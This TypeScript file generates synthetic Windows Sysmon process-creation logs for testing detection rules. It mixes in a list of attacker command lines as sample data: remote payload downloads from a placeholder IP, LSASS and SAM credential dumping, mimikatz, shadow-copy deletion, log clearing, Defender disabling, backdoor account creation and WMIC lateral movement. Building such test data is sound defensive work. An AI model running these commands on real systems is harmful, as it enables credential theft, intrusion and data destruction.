/**
 * Synthetic Windows process-creation events (Sysmon EventID 1, the logsource of
 * ~1,200 SigmaHQ rules): Image, OriginalFileName, CommandLine, ParentImage,
 * ParentCommandLine, User, IntegrityLevel, Hashes, CurrentDirectory, Company,
 * Product, Description. Mostly an ordinary workstation/server day; a
 * `suspiciousRate` share of living-off-the-land and credential-theft command lines.
 */
import { BENIGN, EXPL } from './gen-windows-benign';
import { B, sys, type Bin, type Key } from './gen-windows-bins';
import type { Rng } from './harness';

// [binary, command line, parent]: living-off-the-land and credential theft, as in the rules' tests
const SUSPICIOUS: Array<[Bin, string, [Key, string]]> = [
  [
    B.powershell,
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ['winword', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n invoice.docm'],
  ],
  [
    B.powershell,
    'powershell.exe -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
    EXPL,
  ],
  [
    sys('certutil.exe', 'CertUtil.exe'),
    'certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe',
    ['cmd', 'cmd.exe /c'],
  ],
  [
    sys('rundll32.exe', 'Windows host process (Rundll32)', 'RUNDLL32.EXE'),
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full',
    ['cmd', 'cmd.exe'],
  ],
  [
    sys('vssadmin.exe', 'Command Line Interface for Microsoft® Volume Shadow Copy Service', 'VSSADMIN.EXE'),
    'vssadmin.exe delete shadows /all /quiet',
    ['cmd', 'cmd.exe /c'],
  ],
  [sys('reg.exe', 'Registry Console Tool'), 'reg.exe save hklm\\sam C:\\Temp\\sam.save', ['cmd', 'cmd.exe']],
  [
    sys('mshta.exe', 'Microsoft (R) HTML Application host', 'MSHTA.EXE'),
    'mshta.exe http://203.0.113.7/x.hta',
    ['outlook', 'OUTLOOK.EXE'],
  ],
  [
    sys('bitsadmin.exe', 'BITS administration utility'),
    'bitsadmin.exe /transfer job /download /priority high http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe',
    ['cmd', 'cmd.exe'],
  ],
  [
    sys('schtasks.exe', 'Task Scheduler Configuration Tool'),
    'schtasks.exe /create /sc onlogon /tn Updater /tr C:\\Users\\Public\\a.exe /ru SYSTEM /f',
    ['cmd', 'cmd.exe'],
  ],
  [
    sys('wbem\\WMIC.exe', 'WMI Commandline Utility', 'wmic.exe'),
    'wmic.exe /node:10.1.2.3 process call create "cmd.exe /c C:\\Users\\Public\\a.exe"',
    ['cmd', 'cmd.exe'],
  ],
  [sys('net.exe', 'Net Command'), 'net.exe user svc-backup P@ssw0rd1 /add', ['cmd', 'cmd.exe']],
  [sys('net.exe', 'Net Command'), 'net.exe localgroup administrators svc-backup /add', ['cmd', 'cmd.exe']],
  [sys('whoami.exe', 'whoami - displays logged on user information'), 'whoami.exe /priv', ['cmd', 'cmd.exe']],
  [
    {
      image: 'C:\\Users\\Public\\procdump64.exe',
      ofn: 'procdump',
      desc: 'Sysinternals process dump utility',
      product: 'ProcDump',
      company: 'Sysinternals - www.sysinternals.com',
    },
    'procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp',
    ['cmd', 'cmd.exe'],
  ],
  [
    {
      image: 'C:\\Users\\Public\\m.exe',
      ofn: 'mimikatz.exe',
      desc: 'mimikatz for Windows',
      product: 'mimikatz',
      company: 'gentilkiwi (Benjamin DELPY)',
    },
    'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    ['cmd', 'cmd.exe'],
  ],
  [
    sys('regsvr32.exe', 'Microsoft(C) Register Server', 'REGSVR32.EXE'),
    'regsvr32.exe /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll',
    ['winword', 'WINWORD.EXE'],
  ],
  [sys('wevtutil.exe', 'Eventing Command Line Utility'), 'wevtutil.exe cl Security', ['cmd', 'cmd.exe']],
  [
    sys('bcdedit.exe', 'Boot Configuration Data Editor', 'bcdedit.exe'),
    'bcdedit.exe /set {default} recoveryenabled No',
    ['cmd', 'cmd.exe'],
  ],
  [
    sys('nltest.exe', 'Microsoft® Logon Server Test Utility', 'nltestrk.exe'),
    'nltest.exe /domain_trusts /all_trusts',
    ['cmd', 'cmd.exe'],
  ],
  [B.cmd, 'cmd.exe /c ping -n 1 127.0.0.1 & del /q C:\\Users\\Public\\a.exe', ['winword', 'WINWORD.EXE']],
  [B.powershell, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true', ['cmd', 'cmd.exe']],
  [B.powershell, 'powershell.exe -c "Add-MpPreference -ExclusionPath C:\\Users\\Public"', ['cmd', 'cmd.exe']],
];

const USERS = ['ACME\\alice', 'ACME\\bob', 'ACME\\carol', 'ACME\\dave', 'ACME\\svc-report', 'ACME\\erin'];
const SYSTEM_USERS = ['NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE', 'NT AUTHORITY\\NETWORK SERVICE'];

function guid(rng: Rng): string {
  return `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}}`.toUpperCase();
}

export function windowsEvents(rng: Rng, count: number, suspiciousRate: number): Record<string, unknown>[] {
  const hashes = new Map<string, string>();
  const hashOf = (image: string): string => {
    let h = hashes.get(image);
    if (h === undefined) {
      h = `SHA1=${rng.hex(40)},MD5=${rng.hex(32)},SHA256=${rng.hex(64)},IMPHASH=${rng.hex(32)}`.toUpperCase();
      hashes.set(image, h);
    }
    return h;
  };
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    const user = rng.pick(USERS);
    const uname = user.split('\\')[1] as string;
    const fill = (s: string): string => s.replace(/%U/g, uname).replace(/%N/g, () => String(rng.int(2, 99999)));
    let bin: Bin;
    let cmd: string;
    let parent: [Key, string];
    let system = false;
    if (rng.chance(suspiciousRate)) {
      [bin, cmd, parent] = rng.pick(SUSPICIOUS);
    } else {
      const p = rng.weighted(BENIGN);
      bin = B[p.bin];
      cmd = rng.pick(p.cmds);
      parent = rng.pick(p.parents);
      system = p.system === true;
    }
    const image = fill(bin.image);
    const pbin = B[parent[0]];
    const who = system ? rng.pick(SYSTEM_USERS) : user;
    out.push({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: `WS-${uname.toUpperCase()}.acme.local`,
      RuleName: '-',
      UtcTime: rng.isoTime().replace('T', ' ').replace('Z', ''),
      ProcessGuid: guid(rng),
      ProcessId: rng.int(300, 30000),
      Image: image,
      FileVersion: `10.0.19041.${rng.int(1, 4000)} (WinBuild.160101.0800)`,
      Description: bin.desc,
      Product: bin.product,
      Company: bin.company,
      OriginalFileName: bin.ofn,
      CommandLine: fill(cmd),
      CurrentDirectory: system
        ? 'C:\\Windows\\system32\\'
        : rng.pick([
            `C:\\Users\\${uname}\\`,
            'C:\\Windows\\system32\\',
            `C:\\Users\\${uname}\\source\\repos\\billing\\`,
          ]),
      User: who,
      LogonGuid: guid(rng),
      LogonId: system ? '0x3e7' : `0x${rng.hex(6)}`,
      TerminalSessionId: system ? 0 : rng.int(1, 3),
      IntegrityLevel: system
        ? 'System'
        : rng.weighted([
            [8, 'Medium'],
            [1, 'High'],
            [1, 'AppContainer'],
          ] as const),
      Hashes: hashOf(image),
      ParentProcessGuid: guid(rng),
      ParentProcessId: rng.int(300, 30000),
      ParentImage: fill(pbin.image),
      ParentCommandLine: fill(parent[1]),
      ParentUser: who,
    });
  }
  return out;
}
